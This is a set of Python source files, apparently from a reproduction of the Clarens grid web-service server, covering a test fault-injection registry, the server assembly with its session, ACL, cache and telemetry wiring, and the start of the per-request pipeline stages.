        or a class (instantiated with a descriptive message).  ``call``
        receives the fire's context dict and may mutate it — that is how
        the clock-skew fault rewrites gossip timestamps.  ``times=None``
        triggers on every matching fire; ``after=N`` skips the first N
        matching fires before the rule starts triggering.  ``match``
        restricts the rule to fires whose context contains the given
        key/value subset.
        """

        if exc is None and call is None:
            raise ValueError("fault rule needs an exc and/or a call")
        if after < 0:
            raise ValueError("after must be >= 0")
        if times is not None and times < 1:
            raise ValueError("times must be >= 1 (or None for unlimited)")
        rule = FaultRule(self, point, exc=exc, call=call, times=times,
                         after=after, match=match)
        with self._lock:
            self._rules.append(rule)
        return rule

    def _remove(self, rule: FaultRule) -> None:
        with self._lock:
            try:
                self._rules.remove(rule)
            except ValueError:
                pass

    def clear(self) -> None:
        """Disarm every rule and reset fire counters."""

        with self._lock:
            self._rules.clear()
            self._counts.clear()

    # -- firing --------------------------------------------------------------
    def fire(self, point: str, **ctx: Any) -> None:
        """Hit the named fault point; trigger at most one matching rule.

        A no-op when nothing is armed (the common production case).  The
        first armed rule that matches and is past its ``after`` skip count
        triggers: its callback runs, then its exception (if any) is
        raised.  Exhausted rules are removed.
        """

        if not self._rules:
            return
        triggered: FaultRule | None = None
        with self._lock:
            for rule in self._rules:
                if rule.exhausted or not rule.matches(point, ctx):
                    continue
                rule.matched += 1
                if rule.matched <= rule.after:
                    continue
                rule.fired += 1
                self._counts[point] = self._counts.get(point, 0) + 1
                if rule.exhausted:
                    self._rules.remove(rule)
                triggered = rule
                break
        if triggered is None:
            return
        if triggered.call is not None:
            triggered.call(ctx)
        if triggered.exc is not None:
            if isinstance(triggered.exc, BaseException):
                raise triggered.exc
            raise triggered.exc(f"injected fault at {point}")

    # -- introspection -------------------------------------------------------
    def fired(self, point: str | None = None) -> int:
        """Total triggered fires, for one point or across all points."""

        with self._lock:
            if point is not None:
                return self._counts.get(point, 0)
            return sum(self._counts.values())

    def counts(self) -> dict[str, int]:
        """Snapshot of triggered fire counts per point."""

        with self._lock:
            return dict(self._counts)

    def active(self) -> list[FaultRule]:
        """Snapshot of currently armed rules."""

        with self._lock:
            return list(self._rules)


#: Process-wide registry used by the built-in seams.  Tests arm rules on
#: it directly; an autouse fixture clears it between tests.
FAULTS = FaultRegistry()
