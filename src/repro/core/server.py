"""The Clarens server assembly.

:class:`ClarensServer` wires together the substrates (database, PKI trust,
HTTP routing) and the standard services.  It exposes three frontends:

* :meth:`ClarensServer.loopback` — an in-process transport used by tests and
  by the Figure 4 benchmark (framework overhead only, as in the paper);
* :meth:`ClarensServer.socket_server` — a real threaded HTTP server;
* :meth:`ClarensServer.async_server` — the event-loop HTTP frontend
  (:meth:`ClarensServer.frontend` picks between the two socket servers from
  the ``server_transport`` knob).

All route through the same :class:`~repro.httpd.router.Router`, so URL
handling ("Apache invokes PClarens based on the form of the URL") and request
processing are identical regardless of transport.
"""

from __future__ import annotations

import tempfile
import time
from pathlib import Path
from typing import Iterable

import threading

from repro.acl.evaluator import ACLManager
from repro.cache.core import CacheRegistry, TTLLRUCache
from repro.cache.distributed import CacheInvalidationRelay
from repro.cache.invalidation import InvalidationBus
from repro.core.auth import Authenticator
from repro.core.config import ServerConfig
from repro.core.context import CallContext
from repro.core.dispatch import Dispatcher
from repro.core.errors import AccessDeniedError
from repro.core.pipeline import build_pipeline
from repro.core.registry import MethodRegistry
from repro.core.service import ClarensService
from repro.core.session import SessionManager
from repro.core.system import SystemService
from repro.database import Database
from repro.core.admission import AdmissionController
from repro.httpd.accesslog import AccessLog
from repro.httpd.aio import AsyncHTTPServer
from repro.httpd.loopback import LoopbackTransport
from repro.httpd.message import Headers, HTTPError, HTTPRequest, HTTPResponse
from repro.httpd.router import Router
from repro.httpd.server import SocketHTTPServer
from repro.httpd.tls import TLSContext
from repro.monitoring.bus import MessageBus
from repro.monitoring.cachemetrics import CacheStatsReporter
from repro.pki.certificate import TrustStore
from repro.pki.credentials import Credential
from repro.pki.proxy import ChainVerificationCache
from repro.telemetry.runtime import ServerTelemetry
from repro.vo.model import VOManager

__all__ = ["ClarensServer"]


class ClarensServer:
    """A Clarens web-service server instance."""

    def __init__(self, config: ServerConfig | None = None, *,
                 credential: Credential | None = None,
                 trust_store: TrustStore | None = None,
                 database: Database | None = None,
                 monitor=None,
                 message_bus: MessageBus | None = None,
                 register_default_services: bool = True) -> None:
        self.config = config or ServerConfig()
        self.credential = credential
        self.trust_store = trust_store or TrustStore()
        self.monitor = monitor
        #: The monitoring message bus.  Each server gets its own by default;
        #: across real server boundaries the fabric's GossipBus forwards
        #: allow-listed topics (cache invalidations, admission shed adverts)
        #: to the configured peers.  Tests may still hand several servers one
        #: shared instance — an in-process stand-in for that transport.
        self.message_bus = message_bus or MessageBus()
        self.started_at = time.time()

        # -- substrates -----------------------------------------------------
        if database is not None:
            self.db = database
        elif self.config.data_dir:
            self.db = Database(self.config.data_dir)
        else:
            self.db = Database()

        self.access_log = AccessLog()
        self.registry = MethodRegistry(self.db, cache_method_list=self.config.cache_method_list)

        # -- caching (repro.cache) -------------------------------------------
        # The registry and bus always exist (so cache_stats is queryable), but
        # caches are only created when cache_enabled is True; with the flag
        # off every component receives None and behaves exactly as the
        # paper's uncached server did.
        self.caches = CacheRegistry()
        self.invalidation = InvalidationBus()
        cfg = self.config
        # Multi-server coherence: relay local invalidation tags onto the
        # monitoring bus (cache.invalidate.*) and apply flushes arriving
        # there from other servers — delivered by the fabric gossip bus in a
        # real deployment, or directly when tests share one bus object.
        self.invalidation_relay = None
        if cfg.cache_enabled:
            self.invalidation_relay = CacheInvalidationRelay(
                self.invalidation, self.message_bus, source=cfg.server_name)
        session_cache = self.make_cache("core.sessions",
                                        maxsize=cfg.cache_session_maxsize,
                                        ttl=cfg.cache_session_ttl)
        acl_cache = self.make_cache("acl.decisions",
                                    maxsize=cfg.cache_acl_maxsize,
                                    ttl=cfg.cache_acl_ttl)
        pki_cache = self.make_cache("pki.chains",
                                    maxsize=cfg.cache_pki_maxsize,
                                    ttl=cfg.cache_pki_ttl)

        self.sessions = SessionManager(self.db, lifetime=self.config.session_lifetime,
                                       cache=session_cache,
                                       invalidation=self.invalidation if session_cache is not None else None)
        self.vo = VOManager(self.db, admins=self.config.admins)
        self.acl = ACLManager(
            self.db,
            membership=self.vo.is_member,
            is_admin=lambda dn: self.vo.is_admin(dn),
            default_allow_authenticated=self.config.default_allow_authenticated,
            decision_cache=acl_cache,
            invalidation=self.invalidation if acl_cache is not None else None,
        )
        if acl_cache is not None:
            # ACL decisions depend on VO group membership, so any group edit
            # must flush them too.
            self.vo.on_change = lambda: self.invalidation.publish("acl")
        self.authenticator = Authenticator(self.sessions, self.trust_store)
        if pki_cache is not None:
            # The authenticator passes its *current* revocation mapping into
            # every cache lookup, so both in-place mutation and wholesale
            # reassignment of ``authenticator.revoked_serials`` take effect
            # immediately — failing fresh verifications and evicting cached
            # ones.  The cache itself therefore needs no mapping of its own.
            self.authenticator.chain_cache = ChainVerificationCache(
                pki_cache, self.trust_store, invalidation=self.invalidation)
        # -- telemetry (repro.telemetry) ---------------------------------------
        # Tracing, metrics and the slow-request log; None in paper mode so
        # every call site (pipeline, transports, clients) stays on the
        # uninstrumented path.  Built before the pipeline, which hooks its
        # trace stage and span reporting into it.
        self.telemetry: ServerTelemetry | None = None
        if cfg.telemetry_enabled:
            self.telemetry = ServerTelemetry(cfg)

        # -- the request pipeline ---------------------------------------------
        # One stage chain (trace → session → acl → admission → invoke, plus
        # decode/encode on the HTTP path), assembled from config and shared
        # by every transport; the Dispatcher is a thin facade over it.
        self.pipeline = build_pipeline(self)
        self.dispatcher = Dispatcher(self, pipeline=self.pipeline)

        # -- file / shell roots ----------------------------------------------
        self._owned_tempdirs: list[tempfile.TemporaryDirectory] = []
        self.file_root = self._resolve_root(self.config.file_root, "files")
        self.shell_root = self._resolve_root(self.config.shell_root, "sandboxes")

        # -- services ---------------------------------------------------------
        # Both are set by ReplicaService when it registers: the broker serves
        # replica-aware GET/read paths, the policy engine auto-heals governed
        # logical files back to their target copy counts.
        self.replica_broker = None
        self.replica_policy = None
        #: Set by FabricService when it registers: the peering substrate
        #: (registry, channels, gossip, catalogue sync, fabric admission).
        self.fabric = None
        self.services: dict[str, ClarensService] = {}
        if register_default_services:
            self._register_default_services()

        # -- routing ----------------------------------------------------------
        self.router = Router()
        self.router.add(self.config.rpc_path(), self.dispatcher.handle_http,
                        methods=("POST",))
        self.router.add(self.config.file_path(), self._handle_file_get,
                        methods=("GET",))
        if self.telemetry is not None:
            # The Prometheus scrape endpoints.  Mounted at the server root
            # (not under url_prefix) because that is where scrapers look;
            # /metrics/federation wins over /metrics by longest-prefix match.
            self.router.add("/metrics", self.telemetry.handle_metrics_get,
                            methods=("GET",))
            self.router.add("/metrics/federation",
                            self.telemetry.handle_federation_get,
                            methods=("GET",))
            # Unauthenticated liveness/health probe for load balancers.
            self.router.add("/healthz", self.telemetry.handle_healthz_get,
                            methods=("GET",))
        self.router.set_default(self._handle_unrouted)

        for service in self.services.values():
            service.on_start()

        # Wire the event bridge and stats collectors only after the services
        # exist, so the collectors can see replica engine / fabric surfaces.
        if self.telemetry is not None:
            self.telemetry.attach(self)

        # -- periodic cache-statistics reporter --------------------------------
        self.cache_reporter = CacheStatsReporter(self.caches,
                                                 source=self.config.server_name)
        self._reporter_stop = threading.Event()
        self._reporter_thread: threading.Thread | None = None
        if self.config.cache_stats_interval > 0:
            self._reporter_thread = threading.Thread(
                target=self._reporter_loop, name="cache-stats-reporter",
                daemon=True)
            self._reporter_thread.start()

    # -- assembly helpers -----------------------------------------------------
    def make_cache(self, name: str, *, maxsize: int, ttl: float | None) -> TTLLRUCache | None:
        """A named cache when caching is enabled on this server, else None.

        Components treat a None cache as "run uncached", so gating creation
        here keeps every integration point identical to paper mode when
        ``cache_enabled`` is off.
        """

        if not self.config.cache_enabled:
            return None
        return self.caches.create(name, maxsize=maxsize, ttl=ttl,
                                  shards=self.config.cache_shards)

    def _resolve_root(self, configured: str | None, default_name: str) -> Path:
        if configured:
            path = Path(configured)
            path.mkdir(parents=True, exist_ok=True)
            return path
        if self.config.data_dir:
            path = Path(self.config.data_dir) / default_name
            path.mkdir(parents=True, exist_ok=True)
            return path
        tmp = tempfile.TemporaryDirectory(prefix=f"clarens-{default_name}-")
        self._owned_tempdirs.append(tmp)
        return Path(tmp.name)

    def _register_default_services(self) -> None:
        # Imported here to keep the core package importable on its own and to
        # avoid import cycles (each service module imports repro.core.service).
        from repro.discovery.service import DiscoveryService
        from repro.fabric.service import FabricService
        from repro.fileservice.service import FileService
        from repro.jobs.service import JobService
        from repro.messaging.service import MessagingService
        from repro.proxyservice.service import ProxyService
        from repro.replica.service import ReplicaService
        from repro.shell.service import ShellService
        from repro.storage.service import SRMService
        from repro.acl.service import ACLService
        from repro.vo.service import VOService

        # ReplicaService comes after SRMService so the mass store behind the
        # SRM frontend is available as a replica storage element, and
        # FabricService comes last so the peering substrate can wire into the
        # replica catalogue and element map.
        for service_cls in (SystemService, VOService, ACLService, FileService,
                            DiscoveryService, ShellService, ProxyService, JobService,
                            MessagingService, SRMService, ReplicaService,
                            FabricService):
            self.add_service(service_cls(self))

    def add_service(self, service: ClarensService) -> ClarensService:
        """Register a service instance and publish its methods."""

        service.register(self.registry)
        self.services[service.service_name] = service
        return service

    # -- monitoring loop -------------------------------------------------------
    def _reporter_loop(self) -> None:
        """Periodically publish cache statistics onto the monitoring bus."""

        interval = self.config.cache_stats_interval
        while not self._reporter_stop.wait(timeout=interval):
            try:
                self.cache_reporter.publish(self.message_bus)
            except Exception:  # pragma: no cover - monitoring must never kill
                pass

    # -- authorization helper ---------------------------------------------------
    def require_admin(self, ctx: CallContext) -> str:
        """Raise AccessDeniedError unless the caller is a server administrator."""

        dn = ctx.require_dn()
        if not self.vo.is_admin(dn):
            raise AccessDeniedError(f"{dn} is not a server administrator")
        return dn

    def require_admin_or_peer(self, ctx: CallContext) -> str:
        """Raise AccessDeniedError unless the caller is an admin or a peer.

        Registered fabric peers authenticate with host credentials whose DNs
        sit in the peer registry's trust list; methods fenced this way (e.g.
        ``system.trace``) serve both operators and fabric-internal fan-outs.
        """

        dn = ctx.require_dn()
        if self.vo.is_admin(dn):
            return dn
        if self.fabric is not None and dn in self.fabric.registry.trusted_dns():
            return dn
        raise AccessDeniedError(
            f"{dn} is neither a server administrator nor a registered peer")

    # -- HTTP handling ------------------------------------------------------------
    def handle_request(self, request: HTTPRequest) -> HTTPResponse:
        """The single entry point used by every transport."""

        start = time.perf_counter()
        response = self.router.dispatch(request)
        if (self.telemetry is not None
                and request.url_path != self.config.rpc_path()):
            # RPCs record their spans inside the pipeline; traced *non-RPC*
            # requests (a peer's ranged LFN GET, file downloads) are spanned
            # here so remote reads link into the originating trace.
            self.telemetry.record_http(request, response.status,
                                       time.perf_counter() - start)
        self.access_log.log(
            remote_addr=request.remote_addr,
            client_dn=request.client_dn,
            method=request.method,
            path=request.url_path,
            status=response.status,
            response_bytes=response.content_length(),
            duration_s=time.perf_counter() - start,
        )
        return response

    def _handle_file_get(self, request: HTTPRequest, remainder: str) -> HTTPResponse:
        file_service = self.services.get("file")
        if file_service is None:
            raise HTTPError(404, "file service is not enabled on this server")
        return file_service.handle_get(request, remainder)  # type: ignore[attr-defined]

    def _handle_unrouted(self, request: HTTPRequest, remainder: str) -> HTTPResponse:
        # "Other URLs are handled transparently by the Apache server according
        # to its configuration" — for the reproduction that means a 404 unless
        # a deployment mounts extra routes on ``self.router``.
        raise HTTPError(404, f"no handler configured for {request.url_path}")

    # -- frontends -------------------------------------------------------------------
    def loopback(self, *, tls: bool = False,
                 require_client_cert: bool = False) -> LoopbackTransport:
        """An in-process transport bound to this server."""

        server_tls = None
        if tls:
            if self.credential is None:
                raise ValueError("TLS requires the server to hold a host credential")
            server_tls = TLSContext(credential=self.credential,
                                    trust_store=self.trust_store,
                                    require_client_cert=require_client_cert)
        return LoopbackTransport(self.handle_request, server_tls=server_tls,
                                 client_trust_store=self.trust_store)

    def socket_server(self, *, host: str = "127.0.0.1", port: int = 0,
                      keep_alive: bool = True) -> SocketHTTPServer:
        """A real threaded HTTP server bound to this Clarens instance."""

        return SocketHTTPServer(self.handle_request, host=host, port=port,
                                keep_alive=keep_alive, access_log=self.access_log,
                                sendfile_enabled=self.config.sendfile_enabled)

    def async_server(self, *, host: str = "127.0.0.1", port: int = 0,
                     keep_alive: bool = True) -> AsyncHTTPServer:
        """The event-loop HTTP frontend bound to this Clarens instance.

        The transport-level in-flight budget (``async_max_inflight``) runs
        through its own :class:`AdmissionController` — one shared bucket for
        the whole loop — so overload surfaces exactly like per-identity
        shedding does: a ``RetryLaterError`` encoded as a protocol-correct
        ``RETRY_LATER`` fault (HTTP 429) plus a ``dispatch.throttled`` event
        on the monitoring bus.
        """

        cfg = self.config
        gate = None
        if cfg.async_max_inflight > 0:
            admission = AdmissionController(
                max_inflight=cfg.async_max_inflight,
                bus=self.message_bus, source=cfg.server_name)
            gate = lambda request: admission.admit(  # noqa: E731
                "<async-transport>", request.url_path)
        return AsyncHTTPServer(
            self.handle_request, host=host, port=port, keep_alive=keep_alive,
            executor_workers=cfg.async_executor_workers,
            max_connections=cfg.async_max_connections,
            gate=gate, overload_handler=self._overload_response,
            access_log=self.access_log,
            sendfile_enabled=cfg.sendfile_enabled)

    def frontend(self, *, host: str = "127.0.0.1", port: int = 0,
                 keep_alive: bool = True) -> SocketHTTPServer | AsyncHTTPServer:
        """The socket frontend selected by the ``server_transport`` knob."""

        if self.config.server_transport == "async":
            return self.async_server(host=host, port=port, keep_alive=keep_alive)
        return self.socket_server(host=host, port=port, keep_alive=keep_alive)

    def _overload_response(self, request: HTTPRequest | None,
                           exc: BaseException | None) -> HTTPResponse:
        """A 429 for a request (or connection) the transport refused.

        RPC POSTs get a protocol-correct ``RETRY_LATER`` fault body in the
        codec the request was written in, so a Clarens client sees transport
        backpressure and pipeline throttling identically; everything else
        (file GETs, refused connections) gets a plain-text 429.
        """

        from repro.core.pipeline import encode_fault_cached
        from repro.protocols import Fault, ProtocolError, default_codec, detect_codec
        from repro.protocols.errors import FaultCode

        message = str(exc) if exc else "server is at capacity; retry later"
        retry_after = getattr(exc, "retry_after", 0.0) or 0.0
        if request is None or request.method != "POST" or not request.body:
            response = HTTPResponse.error(429, message)
        else:
            try:
                codec = detect_codec(request.body, request.content_type,
                                     enabled=self.pipeline.enabled_protocols)
            except ProtocolError:
                codec = default_codec()
            # The shed message is constant per identity, so under a sustained
            # overload burst this serves one pre-encoded body instead of
            # re-encoding the identical fault per refused request.
            body = encode_fault_cached(
                codec, Fault(FaultCode.RETRY_LATER, message))
            response = HTTPResponse(
                status=429, headers=Headers({"Content-Type": codec.content_type}),
                body=body)
        if retry_after > 0:
            response.headers.set("Retry-After", f"{retry_after:.3f}")
        return response

    # -- discovery helpers ---------------------------------------------------------
    def service_descriptor(self, url: str | None = None) -> dict:
        """The descriptor this server publishes to the discovery network."""

        return {
            "name": self.config.server_name,
            "url": url or f"loopback://{self.config.server_name}{self.config.rpc_path()}",
            "host_dn": self.config.host_dn or (
                str(self.credential.certificate.subject) if self.credential else ""),
            "services": self.registry.modules(),
            "methods": self.registry.list_methods(),
            "protocols": list(self.config.protocols()),
            "started_at": self.started_at,
        }

    # -- lifecycle --------------------------------------------------------------------
    def checkpoint(self) -> None:
        """Flush database state to disk (sessions, VO, ACLs, methods)."""

        self.db.checkpoint()

    def close(self) -> None:
        self._reporter_stop.set()
        if self._reporter_thread is not None:
            self._reporter_thread.join(timeout=5.0)
            self._reporter_thread = None
        if self.telemetry is not None:
            self.telemetry.close()
        if self.invalidation_relay is not None:
            self.invalidation_relay.close()
        for service in self.services.values():
            service.on_stop()
        self.db.close()
        for tmp in self._owned_tempdirs:
            tmp.cleanup()
        self._owned_tempdirs.clear()

    def __enter__(self) -> "ClarensServer":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()

    # -- convenience constructors -----------------------------------------------------
    @classmethod
    def with_test_pki(cls, config: ServerConfig | None = None, *,
                      ca_name: str = "/O=clarens.test/CN=Clarens Test CA",
                      hostname: str = "server.clarens.test",
                      extra_users: Iterable[str] = (),
                      **kwargs):
        """Build a server plus a CA and host credential, for tests and examples.

        Returns ``(server, ca)`` so callers can issue client certificates from
        the same CA the server trusts.
        """

        from repro.pki.authority import CertificateAuthority

        ca = CertificateAuthority(ca_name)
        host_credential = ca.issue_host(hostname)
        config = config or ServerConfig()
        if not config.host_dn:
            config = config.with_overrides(host_dn=str(host_credential.certificate.subject))
        server = cls(config, credential=host_credential, trust_store=ca.trust_store(),
                     **kwargs)
        for user in extra_users:
            ca.issue_user(user)
        return server, ca
