"""The composable per-request pipeline.

This module is the refactored form of the monolithic dispatcher hot path —
the code the paper's Figure 4 measures.  Instead of one method hard-coding
codec handling, the session lookup and the method-ACL check, every RPC now
flows through an ordered chain of :class:`PipelineStage` objects sharing one
:class:`RequestState` carrier::

    decode → trace → session → method-acl → admission → invoke → encode

``decode``/``encode`` run only on the HTTP path (:meth:`RequestPipeline.
handle_http`); already-decoded requests (tests, in-process services) enter at
:meth:`RequestPipeline.run` and pay the same trace/session/ACL/admission/
invoke chain, so both the loopback transport and the socket server exercise
the identical pipeline object assembled once by ``ClarensServer``.

The stages named ``session`` and ``acl`` are the paper's "two access control
checks involving access to several databases"; the ``access_checks_per_request``
ablation knob switches them off one at a time exactly as before, so the
ACL-overhead benchmark keeps measuring the same thing.

Cross-cutting concerns plug in without touching the core: a deployment calls
:meth:`RequestPipeline.insert_stage` with any callable taking the state (see
``docs/architecture.md`` for a worked example).  Two such concerns ship here:

* **batched RPC** — ``system.multicall`` enters the pipeline once (one
  decode, one session check), then :meth:`RequestPipeline.run_multicall`
  charges the admission bucket one token per entry (batching amortizes
  parsing, never the rate limit), amortizes the method-ACL check per
  *distinct* method and invokes every entry, with fault-per-entry semantics;
* **admission control** — the ``admission`` stage sheds load per identity
  via :class:`~repro.core.admission.AdmissionController`.

Per-request accounting goes through :class:`ShardedDispatchStats`: the old
single stats mutex serialized every worker thread at the end of the hot
path; now each thread lands on one of ``dispatch_stats_shards`` independent
locks and snapshots merge on read, including a per-stage latency breakdown
surfaced by ``system.stats``.
"""

from __future__ import annotations

import inspect
import itertools
import threading
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Callable, Sequence

from repro.core.admission import ANONYMOUS_IDENTITY, AdmissionController
from repro.core.context import CallContext
from repro.core.errors import AccessDeniedError, AuthenticationError, to_fault
from repro.core.session import Session
from repro.httpd.message import Headers, HTTPRequest, HTTPResponse
from repro.protocols import default_codec, detect_codec
from repro.protocols.errors import Fault, FaultCode, ProtocolError
from repro.protocols.negotiate import ACCEPT_HEADER, PROTOCOL_HEADER
from repro.protocols.types import RPCRequest, RPCResponse, validate_value
from repro.telemetry.trace import TRACE_HEADER, Span, TraceContext, use_trace

if TYPE_CHECKING:  # pragma: no cover
    from repro.core.registry import RegisteredMethod
    from repro.core.server import ClarensServer
    from repro.telemetry.runtime import ServerTelemetry

__all__ = [
    "RequestState",
    "PipelineStage",
    "RequestPipeline",
    "ShardedDispatchStats",
    "build_pipeline",
    "allow_anonymous",
    "check_method_acl",
    "encode_fault_cached",
    "SESSION_HEADER",
]

#: HTTP header carrying the session id (the original used cookie-like headers).
SESSION_HEADER = "X-Clarens-Session"


# ---------------------------------------------------------------------------
# Pre-encoded fault bodies
# ---------------------------------------------------------------------------

_FAULT_CACHE: dict[tuple[str, int, str], bytes] = {}
_FAULT_CACHE_LOCK = threading.Lock()
#: Cache bound; distinct fault texts past this flush the table (an overload
#: burst repeats a handful of messages, so the flush is effectively never hit
#: on the hot path it exists for).
_FAULT_CACHE_LIMIT = 256


def encode_fault_cached(codec, fault: Fault) -> bytes:
    """Encode a fault response body, memoised per ``(codec, code, message)``.

    Overloaded servers re-encode the same RETRY_LATER (and parse-error)
    bodies thousands of times a second; the bytes depend only on the codec
    and the fault, so they are encoded once.  Only call-id-less responses
    may use this — JSON-RPC and binary embed the call id in the body, so a
    response correlated to a client id must be encoded fresh.
    """

    key = (codec.name, int(fault.code), fault.message)
    body = _FAULT_CACHE.get(key)
    if body is None:
        body = codec.encode_response(RPCResponse.from_fault(fault))
        with _FAULT_CACHE_LOCK:
            if len(_FAULT_CACHE) >= _FAULT_CACHE_LIMIT:
                _FAULT_CACHE.clear()
            _FAULT_CACHE[key] = body
    return body


# ---------------------------------------------------------------------------
# Hot-response fragment memo (spliceable codecs)
# ---------------------------------------------------------------------------

#: Distinct hot methods the per-pipeline result-fragment memo holds before
#: flushing; catalogue-style servers repeat a handful of methods, so the
#: flush is effectively never hit on the path it accelerates.
_RESULT_MEMO_LIMIT = 64


#: Exact-bytes request-decode memo bound (spliceable codecs only).  Hot RPC
#: traffic repeats a handful of wire-identical frames (``system.
#: list_methods`` with no params), so the bound exists only as a backstop
#: against pathological key churn.
_REQUEST_MEMO_LIMIT = 256
#: Only small frames are worth keying a memo by their whole body.
_REQUEST_MEMO_MAX_BYTES = 1024

#: Param types a memoised (and therefore shared) request may carry: all
#: immutable, so no service can mutate what a later request will see.
_IMMUTABLE_PARAMS = (str, int, float, bool, bytes, type(None))


_UNSTABLE = object()


def _stable_copy(value: Any) -> Any:
    """Defensively copy ``value`` when equality implies identical bytes.

    The fragment memo serves cached bytes whenever a method's fresh result
    compares equal to the memoised one, so it may only hold values for which
    Python equality cannot cross encoding boundaries.  Strings, ``None`` and
    ``bytes`` only ever equal values that encode identically; numerics and
    bools do not (``1 == True == 1.0`` but their frames differ), and
    tz-aware datetimes can equal ones with a different ISO rendering — any
    value containing those returns :data:`_UNSTABLE` and is encoded fresh
    every call.  Containers are rebuilt so a service mutating its returned
    object cannot alias the memo's comparison baseline.
    """

    kind = type(value)
    if kind is str or value is None or kind is bytes:
        return value
    if kind is list or kind is tuple:
        out = []
        for item in value:
            copied = _stable_copy(item)
            if copied is _UNSTABLE:
                return _UNSTABLE
            out.append(copied)
        return out if kind is list else tuple(out)
    if kind is dict:
        record = {}
        for key, item in value.items():
            copied = _stable_copy(item)
            if copied is _UNSTABLE:
                return _UNSTABLE
            record[key] = copied
        return record
    return _UNSTABLE


# ---------------------------------------------------------------------------
# The state carrier
# ---------------------------------------------------------------------------

@dataclass
class RequestState:
    """Everything one request accumulates as it moves down the pipeline."""

    server: "ClarensServer"
    rpc_request: RPCRequest
    http_request: HTTPRequest | None = None
    protocol: str = "xml-rpc"
    #: Monotonically increasing id stamped by the trace stage.
    trace_id: int = 0
    #: The distributed trace context (telemetry-enabled servers only):
    #: accepted from the request's trace header or freshly minted.
    trace: TraceContext | None = None
    #: Resolved by the session stage (it needs the anonymous flag).
    method: "RegisteredMethod | None" = None
    session: Session | None = None
    dn: str | None = None
    #: True when the request was admitted anonymously (counted in stats).
    anonymous: bool = False
    #: Set by the invoke stage (or by a custom stage that short-circuits).
    response: RPCResponse | None = None
    #: False when the serving codec validates during encoding (spliceable
    #: codecs), so the invoke stage skips the redundant ``validate_value``
    #: walk over the result.
    validate_result: bool = True
    #: Wall-clock seconds spent in each stage, keyed by stage name.
    stage_seconds: dict[str, float] = field(default_factory=dict)
    #: Callables run (in reverse order) once the request finishes, success or
    #: fault — the admission stage parks its in-flight release here.
    cleanups: list[Callable[[], None]] = field(default_factory=list)

    @property
    def identity(self) -> str:
        """The admission identity: the caller DN or the anonymous principal."""

        return self.dn or ANONYMOUS_IDENTITY


# ---------------------------------------------------------------------------
# Stages
# ---------------------------------------------------------------------------

class PipelineStage:
    """One step of the chain: a named callable over :class:`RequestState`.

    Stages communicate by mutating the state; raising any exception aborts
    the chain and becomes the request's fault (via ``to_fault``).  Custom
    stages may also set ``state.response`` to short-circuit: remaining
    stages before ``invoke`` still run (they are access control), but the
    invoke stage respects an already-present response.
    """

    name = "stage"

    def __call__(self, state: RequestState) -> None:  # pragma: no cover
        raise NotImplementedError


class TraceStage(PipelineStage):
    """Stamps a request id so log lines and events correlate across stages.

    With telemetry enabled it additionally establishes the *distributed*
    trace context: accepted from the request's ``X-Clarens-Trace`` header
    (the server mints its own span id, parented on the caller's) or freshly
    minted for untraced requests.  Paper-mode servers never parse the
    header — the negotiation is simply that only telemetry-enabled servers
    look, so old clients and old servers interoperate unchanged.
    """

    name = "trace"

    def __init__(self, telemetry: "ServerTelemetry | None" = None) -> None:
        self._ids = itertools.count(1)
        self.telemetry = telemetry

    def __call__(self, state: RequestState) -> None:
        state.trace_id = next(self._ids)
        if self.telemetry is None:
            return
        ctx = None
        if state.http_request is not None:
            ctx = TraceContext.from_header(
                state.http_request.headers.get(TRACE_HEADER, ""))
        state.trace = ctx or TraceContext.new()


def allow_anonymous(server: "ClarensServer", method: "RegisteredMethod") -> bool:
    """The anonymous-caller gate, shared by the session stage and multicall.

    A caller with no identity may proceed only when the method is marked
    anonymous *and* the server permits anonymous system calls.
    """

    return method.anonymous and server.config.allow_anonymous_system_calls


def check_method_acl(server: "ClarensServer", dn: str | None, name: str,
                     method: "RegisteredMethod | None") -> None:
    """The paper's check 2 (method ACL), shared by the acl stage and multicall.

    Honors the ``access_checks_per_request`` ablation knob and skips the
    evaluation for anonymous callers on anonymous methods (their gate is
    check 1's concern).  Raises :class:`AccessDeniedError` on a denial.
    """

    if server.config.access_checks_per_request < 2:
        return
    if dn is None and method is not None and method.anonymous:
        return
    decision = server.acl.check_method(dn or "", name)
    if not decision.allowed:
        raise AccessDeniedError(
            f"access to {name} denied: {decision.reason}")


class SessionStage(PipelineStage):
    """Method lookup plus the paper's check 1: the session database lookup."""

    name = "session"

    def __call__(self, state: RequestState) -> None:
        server = state.server
        rpc_request = state.rpc_request
        http_request = state.http_request
        state.method = server.registry.lookup(rpc_request.method)

        if server.config.access_checks_per_request < 1:
            # Ablation mode: no session checking; trust the TLS DN if present.
            state.dn = http_request.client_dn if http_request is not None else None
            return

        session_id = None
        if http_request is not None:
            session_id = http_request.headers.get(SESSION_HEADER)
        if session_id:
            state.session = server.sessions.validate(session_id)
            state.dn = state.session.dn
        elif http_request is not None and http_request.client_dn:
            # TLS-authenticated connection without an explicit session: the
            # verified certificate DN identifies the caller directly.
            state.dn = http_request.client_dn
        elif allow_anonymous(server, state.method):
            state.dn = None
            state.anonymous = True
        else:
            raise AuthenticationError(
                f"method {rpc_request.method} requires an authenticated session")


class MethodACLStage(PipelineStage):
    """The paper's check 2: the database-backed method ACL evaluation."""

    name = "acl"

    def __call__(self, state: RequestState) -> None:
        check_method_acl(state.server, state.dn, state.rpc_request.method,
                         state.method)


class AdmissionStage(PipelineStage):
    """Per-identity token-bucket / in-flight admission (off when unconfigured)."""

    name = "admission"

    def __init__(self, controller: AdmissionController | None) -> None:
        self.controller = controller

    def __call__(self, state: RequestState) -> None:
        if self.controller is None:
            return
        release = self.controller.admit(state.identity, state.rpc_request.method)
        state.cleanups.append(release)


class InvokeStage(PipelineStage):
    """Calls the registered method with a :class:`CallContext`."""

    name = "invoke"

    def __call__(self, state: RequestState) -> None:
        if state.response is not None:  # a custom stage already answered
            return
        rpc_request = state.rpc_request
        ctx = CallContext(server=state.server, method=rpc_request.method,
                          dn=state.dn, session=state.session,
                          request=state.http_request, protocol=state.protocol,
                          trace_id=state.trace_id, trace=state.trace)
        if state.trace is not None:
            # Ambient activation: anything the method does on this thread —
            # publish bus events, call a peer, submit a transfer — inherits
            # the trace without plumbing it through every layer.
            with use_trace(state.trace):
                result = _call_with_context(state.method.func, ctx,
                                            rpc_request.params)
        else:
            result = _call_with_context(state.method.func, ctx, rpc_request.params)
        state.response = RPCResponse.from_result(result, call_id=rpc_request.call_id,
                                                 validate=state.validate_result)


# ---------------------------------------------------------------------------
# Sharded statistics
# ---------------------------------------------------------------------------

